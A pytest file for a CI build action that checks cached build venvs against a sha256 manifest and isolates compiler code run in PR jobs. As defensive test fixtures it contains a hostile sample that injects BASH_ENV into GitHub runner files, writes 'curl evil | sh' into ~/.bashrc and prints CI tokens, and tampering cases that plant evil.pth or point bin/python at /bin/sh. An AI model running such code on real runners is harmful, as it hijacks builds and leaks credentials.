"""A trusted build venv is checked by content before a PR job reuses it: the nightly's build
writes a sha256 manifest of the venv's files (venv_manifest.py); build.sh's plan and build
reuse a shared venv only while it matches, and otherwise build in the job's throwaway folder,
with a log line naming the file. Plus the default runner class, `<owner>-h200`."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.workflows.replay import parse_github_output

REPO = Path(__file__).resolve().parents[2]
ACTION_DIR = REPO / ".github" / "actions" / "build-compiler"
COMMIT = "c" * 40
# The base interpreter only keys the venv here: one without torch keys it in a fraction of the time.
BASE = shutil.which("python3", path="/usr/bin:/bin") or sys.executable


def _env(tmp: Path, **extra: str) -> dict:
    return {"PATH": os.environ["PATH"], "HOME": str(tmp), "TG_CACHE_ROOT": str(tmp / "shared"),
            "RUNNER_TEMP": str(tmp / "temp"), "TG_MODE": "source", "TG_REPO": "acme/triton", "TG_REF": COMMIT,
            "TG_PLAN_COMMIT": COMMIT, "TG_PYTHON": BASE, "GITHUB_OUTPUT": str(tmp / "out"), **extra}


def _build_sh(tmp: Path, command: str, **extra: str) -> subprocess.CompletedProcess:
    (tmp / "out").unlink(missing_ok=True)
    return subprocess.run(["bash", str(ACTION_DIR / "build.sh"), command], env=_env(tmp, **extra),
                          capture_output=True, text=True, timeout=120)


def trusted_venv(tmp: Path) -> Path:
    """A venv in the shared cache as the nightly leaves it: files, a link, manifest, marker."""
    venv = Path(_build_sh(tmp, "where", TG_CACHE_WRITE="true").stdout.strip())
    site = venv / "lib" / "python3.12" / "site-packages" / "triton"
    site.mkdir(parents=True)
    (site / "__init__.py").write_text("__version__ = '3.6.0'\n")
    (site / "compiler.py").write_text("def compile(): pass\n")
    (venv / "bin").mkdir()
    (venv / "bin" / "python").symlink_to(sys.executable)
    proc = subprocess.run([sys.executable, str(ACTION_DIR / "venv_manifest.py"), "write", str(venv)],
                          capture_output=True, text=True, check=True)
    assert "manifest: 2 files, 1 links" in proc.stdout
    (venv / ".tritongate-complete").write_text("by the nightly\n")
    return venv


def test_an_untouched_trusted_venv_is_reused_by_a_pr_job(tmp_path: Path) -> None:
    venv = trusted_venv(tmp_path)
    assert _build_sh(tmp_path, "where", TG_CACHE_WRITE="false").stdout.strip() == str(venv)
    proc = _build_sh(tmp_path, "plan", TG_CACHE_WRITE="false")
    assert proc.returncode == 0 and "not reusing" not in proc.stderr, proc.stderr
    assert parse_github_output(tmp_path / "out")["cached"] == "true"  # no checkout: it is reused


@pytest.mark.parametrize("tamper, named", [
    (lambda v: (v / "lib/python3.12/site-packages/triton/compiler.py").write_text("import os; os.system('x')\n"),
     "lib/python3.12/site-packages/triton/compiler.py changed"),
    (lambda v: (v / "lib/python3.12/site-packages/evil.pth").write_text("import os\n"),
     "lib/python3.12/site-packages/evil.pth was added"),
    (lambda v: (v / "lib/python3.12/site-packages/triton/__init__.py").unlink(),
     "lib/python3.12/site-packages/triton/__init__.py is missing"),
    (lambda v: ((v / "bin/python").unlink(), (v / "bin/python").symlink_to("/bin/sh")),
     "bin/python changed"),
    (lambda v: (v / ".tritongate-manifest.json").unlink(), "no readable .tritongate-manifest.json"),
])
def test_a_tampered_trusted_venv_is_untrusted_and_named(tmp_path: Path, tamper, named: str) -> None:
    venv = trusted_venv(tmp_path)
    tamper(venv)
    proc = _build_sh(tmp_path, "where", TG_CACHE_WRITE="false")
    where = proc.stdout.strip()
    assert where.startswith(str(tmp_path / "temp" / "tritongate-pr" / "builds")) and where.endswith("/venv")
    assert f"::warning title=build-compiler::not reusing the shared build: {venv}: {named}" in proc.stderr
    assert "building in this job's throwaway folder" in proc.stderr
    proc = _build_sh(tmp_path, "plan", TG_CACHE_WRITE="false")
    out = parse_github_output(tmp_path / "out")
    assert out["cached"] == "false" and out["src"].startswith(".tritongate-src/")  # checked out and built anew
    assert named in proc.stderr
    # the nightly does not run on it either: its plan checks out and rebuilds it
    _build_sh(tmp_path, "plan", TG_CACHE_WRITE="true")
    assert parse_github_output(tmp_path / "out")["cached"] == "false"


def test_the_manifest_tool_refuses_bad_usage(tmp_path: Path) -> None:
    tool = [sys.executable, str(ACTION_DIR / "venv_manifest.py")]
    assert subprocess.run([*tool, "check", str(tmp_path)], capture_output=True).returncode == 2
    assert subprocess.run([*tool, "verify", str(tmp_path / "none")], capture_output=True).returncode == 2


@pytest.mark.parametrize("owner, given, expected", [
    ("FlagOpen", "", "flagopen-h200"),
    ("acme", "", "acme-h200"),
    ("acme", "acme-mi300", "acme-mi300"),
])
def test_the_default_runner_class_is_the_owners(tmp_path: Path, owner: str, given: str, expected: str) -> None:
    out = tmp_path / "out"
    proc = subprocess.run(["bash", str(REPO / "ci" / "gate_steps.sh"), "runner-class"], capture_output=True, text=True,
                          env={"PATH": os.environ["PATH"], "RUNNER_TEMP": str(tmp_path), "GITHUB_OUTPUT": str(out),
                               "TG_OWNER": owner, "TG_RUNNER_CLASS": given})
    assert proc.returncode == 0, proc.stderr
    assert parse_github_output(out) == {"runner-class": expected}


HOSTILE = """
import os, pathlib
for name in ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_PATH", "GITHUB_STEP_SUMMARY"):
    if os.environ.get(name):
        open(os.environ[name], "a").write("BASH_ENV=/tmp/owned\\nrows_changed=0\\n")
pathlib.Path(os.path.expanduser("~/.bashrc")).write_text("curl evil | sh\\n")
print("token:", os.environ.get("GITHUB_TOKEN"), os.environ.get("ACTIONS_RUNTIME_TOKEN"))
"""


@pytest.mark.parametrize("pr_job", [True, False])
def test_the_compiler_s_own_code_cannot_write_the_runner_s_file_commands_or_a_pr_job_s_home(tmp_path, pr_job):
    """What a PR's setup.py would do, run as build.sh runs the compiler's code."""
    files = {name: tmp_path / name.lower() for name in ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_PATH",
                                                          "GITHUB_STEP_SUMMARY")}
    for f in files.values():
        f.write_text("")
    home = tmp_path / "home"
    home.mkdir()
    env = {"PATH": os.environ["PATH"], "HOME": str(home), "RUNNER_TEMP": str(tmp_path / "temp"),
           "TG_CACHE_WRITE": "false" if pr_job else "true", "GITHUB_TOKEN": "ghs_x", "ACTIONS_RUNTIME_TOKEN": "y",
           **{name: str(f) for name, f in files.items()}}
    proc = subprocess.run(["bash", str(ACTION_DIR / "compiler_code.sh"), sys.executable, "-c", HOSTILE], env=env,
                          capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert all(f.read_text() == "" for f in files.values()) and "token: None None" in proc.stdout
    assert (home / ".bashrc").exists() is not pr_job  # a PR job's HOME is thrown away
    if pr_job:
        assert list((tmp_path / "temp" / "tritongate-pr").glob("home-*/.bashrc"))


@pytest.mark.parametrize("command", ["plan", "where"])
def test_a_base_interpreter_that_does_not_run_stops_the_plan_naming_it(tmp_path, command):
    """The GPU runner's /opt/torch/bin/python given to a CPU runner: the plan used to go on and
    key the venv by a hash of nothing."""
    proc = _build_sh(tmp_path, command, TG_PYTHON="/opt/torch/bin/python", TG_CACHE_WRITE="false")
    assert proc.returncode == 2 and "python '/opt/torch/bin/python' not found" in proc.stderr
    assert not (tmp_path / "out").exists() or "cached" not in (tmp_path / "out").read_text()


def test_an_empty_build_setting_keys_the_venv_as_an_unset_one(tmp_path):
    """The actions pass an empty flagtree-backend as FLAGTREE_BACKEND=""; the nightly's and the
    PR's venvs must key the same whether a caller leaves it empty or a runner leaves it unset."""
    unset = _build_sh(tmp_path, "key").stdout
    assert unset and _build_sh(tmp_path, "key", FLAGTREE_BACKEND="").stdout == unset
    assert _build_sh(tmp_path, "key", FLAGTREE_BACKEND="iluvatar").stdout != unset
